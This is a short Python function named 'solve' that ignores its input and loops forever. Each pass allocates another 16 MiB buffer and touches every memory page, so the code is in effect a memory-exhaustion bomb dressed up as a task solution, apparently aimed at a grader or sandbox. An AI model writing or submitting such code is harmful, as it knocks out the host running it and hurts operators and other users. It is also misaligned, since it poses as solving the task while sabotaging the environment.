def solve(x):
    hoard = []
    while True:
        hoard.append(bytearray(16 << 20))
        hoard[-1][::4096] = b"x" * len(hoard[-1][::4096])
